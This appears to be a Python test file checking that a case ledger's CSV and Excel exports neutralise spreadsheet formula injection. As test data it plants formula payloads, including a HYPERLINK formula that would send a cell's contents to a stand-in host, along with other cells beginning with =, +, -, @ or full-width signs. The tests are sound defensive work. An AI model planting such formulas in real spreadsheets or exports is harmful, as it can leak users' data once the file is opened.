"""No cell of any export is a formula to Excel or WPS (issue 9, D14; the OWASP rule)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlmodel import select

from ledger.case_sheet import as_xlsx, headers, sheet_rows
from ledger.models import Case
from tests.api.conftest import AppClient
from tests.ledger.conftest import create, id_number, woman

RISKY = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
VILLAGES = ['=HYPERLINK("http://x/?"&A2,"详情")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1"]
NAMES = ["=张三", "+李四", "-王五", "@赵六", "＝钱七", "孙八"]


def _plant(client: AppClient) -> None:
    for n, (village, name) in enumerate(zip(VILLAGES, NAMES, strict=True)):
        profile = woman(age_years=40, name=name, id_number=id_number(400 + n))
        create(client, profile, village=village)


def _formulas(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(RISKY)]


def test_the_csv_export_neutralises_formula_cells(ledger_client: AppClient) -> None:
    _plant(ledger_client)
    exported = ledger_client.get("/v1/ledger/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + len(VILLAGES)
    assert _formulas(cells) == []
    assert '\'=HYPERLINK("http://x/?"&A2,"详情")' in cells  # kept, as text
    assert "'=*三" in cells and "'＝*七" in cells and "孙*" in cells


def test_the_xlsx_and_csv_sheets_neutralise_formula_cells(ledger_client: AppClient) -> None:
    _plant(ledger_client)
    policy = ledger_client.app.state.policies.policy
    with ledger_client.app.state.ledger.session() as session:
        book = load_workbook(
            io.BytesIO(as_xlsx(headers(policy), sheet_rows(session, policy, select(Case))))
        )
    sheet = book["台账"]
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert values and all(isinstance(v, str) for v in values)
    assert _formulas([str(v) for v in values]) == []
    assert any(str(v).startswith("'=HYPERLINK") for v in values)
